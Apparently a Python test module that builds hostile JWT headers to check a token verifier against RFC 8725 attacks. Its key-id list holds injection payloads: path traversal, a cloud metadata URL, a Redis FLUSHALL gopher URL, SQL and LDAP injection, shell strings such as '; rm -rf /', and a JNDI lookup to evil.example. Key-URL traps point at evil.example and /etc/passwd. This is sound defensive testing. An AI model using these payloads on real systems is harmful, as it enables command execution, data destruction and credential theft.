"""The header: extensions, keys and addresses brought along, key ids with a sting, other types."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Final

from tests.hostile.vectors import ABSENT, BY_ID, FORM, OWN_KEY, Good, Vector, vector
from tests.issuers import IssuerKey

if TYPE_CHECKING:
    from collections.abc import Iterator

_EVIL: Final = "https://evil.example"
_STRANGER: Final = IssuerKey.new(kid="stranger")

_KEY_IDS: Final = (
    "../../../../dev/null",
    "/proc/sys/kernel/randomize_va_space",
    "..\\..\\windows\\win.ini",
    "file:///dev/null",
    "http://169.254.169.254/latest/meta-data/",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "' OR '1'='1",
    "x' UNION SELECT 'secret' -- ",
    '{"$ne": null}',
    "*",
    "*)(uid=*",
    "$(id)",
    "`id`",
    "|id",
    "; rm -rf /",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "%s%s%n",
    "%00",
    "\0",
    "\r\nSet-Cookie: a=b",
    "\x1b[2J",
    "\u202egnirts",
    "\u0435\u043d\u043a\u0435\u0443",
    "\U0010ffff",
    "__proto__",
    "null",
    " ",
    "k" * 256,
)
_TYPES: Final = (
    "JWT",
    "jwt",
    "JOSE",
    "jose",
    "JOSE+JSON",
    "application/jwt",
    "at+jwt",
    "AT+JWT",
    "application/at+jwt",
    "dpop+jwt",
    "application/dpop+jwt",
    "client-authentication+jwt",
    "oauth-authz-req+jwt",
    "token-introspection+jwt",
    "token-exchange+jwt",
    "logout+jwt",
    "secevent+jwt",
    "entity-statement+jwt",
    "statuslist+jwt",
    "vc+sd-jwt",
    "kb+jwt",
    "JWE",
    "JWT ",
    " JWT",
    "JWT\0",
    "J\u0174T",
    "JW\uff34",
    "JO\u017fE",
    "x",
    "z" * 256,
)
_NO_TEXTS: Final[tuple[object, ...]] = (
    None,
    "",
    7,
    0,
    1.5,
    True,
    False,
    [],
    ["x"],
    {},
    {"x": 1},
    "x" * 257,
    "y" * 10_000,
)


def extensions(good: Good) -> Iterator[Vector]:
    """RFC 7515 section 4.1.11: what is critical and not understood. RFC 7797: what is signed."""
    lists: tuple[Any, ...] = (["exp"], ["alg"], ["b64"], ["https://x.example"], [""], [], {})
    for crit in lists:
        yield vector(f"crit={crit}", "", good.with_header(crit=crit, exp=1, b64=True), FORM)
    for crit in ("exp", None, True, 0, [7], [["exp"]], ["crit"], ["exp"] * 500):
        yield vector(f"crit={crit!s:.40}", "no crit at all", good.with_header(crit=crit), FORM)
    for b64 in (False, True, None, "false", 0):
        yield vector(f"b64={b64!r}", "without crit", good.with_header(b64=b64), FORM)
        token = good.with_header(b64=b64, crit=["b64"])
        yield vector(f"b64={b64!r}-crit", "as RFC 7797 section 6 has it", token, FORM)


def keys_brought_along(good: Good) -> Iterator[Vector]:
    """RFC 8725 section 3.10: a key, or where to fetch one, that is the sender's choice."""
    own = _STRANGER
    forged = {"kid": own.kid, "jwk": own.jwk()}
    token = good.sign({**good.head, **forged}, key=own)
    yield vector("jwk", "signed with the key it brings", token, FORM, OWN_KEY)
    for jwk in (good.key.jwk(), {}, None, "", [own.jwk()], {"keys": [own.jwk()]}):
        token = good.with_header(jwk=jwk)
        yield vector(f"jwk={jwk!s:.30}", "signed with the good one", token, FORM, OWN_KEY)
    address = f"{_EVIL}/jwks.json"
    traps: dict[str, tuple[Any, ...]] = {
        "jku": (address, "http://127.0.0.1:1/", "file:///etc/passwd", "", None, 7, [address]),
        "x5u": (f"{_EVIL}/chain.pem", "", None),
        "x5c": (["MIIB"], ["AAAA", "AAAA"], [], "MIIB", None, 7),
    }
    for name, values in traps.items():
        for value in values:
            token = good.with_header(**{name: value})
            yield vector(f"{name}={value!s:.30}", "signed with the good key", token, FORM)
        token = good.sign({**good.head, name: values[0]}, key=own)
        yield vector(f"{name}-forged", "signed with another", token, FORM)


def ignored(good: Good) -> Iterator[Vector]:
    """RFC 7515 section 4: what isn't understood and isn't critical is ignored, not obeyed."""
    members: dict[str, Any] = {
        "x5t": "AAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "x5t#S256": "A" * 43,
        "zip": "DEF",
        "cty": "JWT",
        "enc": "A128GCM",
        "url": _EVIL,
        "nonce": "x",
        "iss": _EVIL,
        "sub": "somebody-else",
        "exp": 1,
        "unheard_of": {"deep": [[[None]]]},
    }
    for name, value in members.items():
        token = good.with_header(**{name: value})
        yield vector(name, "signed by the good key", token, valid=True)
    yield vector("all", "", good.with_header(**members), valid=True)
    token = good.sign({**good.head, "cty": "JWT"}, good.token.encode())
    yield vector("nested", "a JWT within a JWT is no JSON object", token, FORM)
    deflated = bytes.fromhex("ab562a4a2d2e51b25250ca4c51d25150aa050a00")
    token = good.sign({**good.head, "zip": "DEF"}, deflated)
    yield vector("deflated", "compressed as JWE allows", token, FORM)


def key_ids(good: Good) -> Iterator[Vector]:
    """RFC 8725 section 3.10: a key id is looked up among those we have, and nowhere else."""
    for kid in _KEY_IDS:
        token = good.with_header(kid=kid)
        yield vector(f"{kid!a:.40}", "signed by the good key", token, BY_ID)
    if good.rsa is not None:
        token = good.with_header(kid=good.rsa.key.kid or "rsa")
        yield vector("of-another", "a key of its own kind", token, BY_ID)
    for value in _NO_TEXTS:
        token = good.with_header(kid=value)
        yield vector(f"{value!s:.40}", "no short text", token, FORM)


def types(good: Good, accepted: frozenset[object]) -> Iterator[Vector]:
    """RFC 8725 section 3.11: one kind of token doesn't pass for another."""
    for typ in (ABSENT, *_TYPES):
        fine = (None if typ is ABSENT else typ) in accepted
        flags = () if fine else (FORM,)
        yield vector(f"{typ!a:.40}", "", good.with_header(typ=typ), *flags, valid=fine)
    for value in _NO_TEXTS:
        yield vector(f"{value!s:.40}", "no short text", good.with_header(typ=value), FORM)
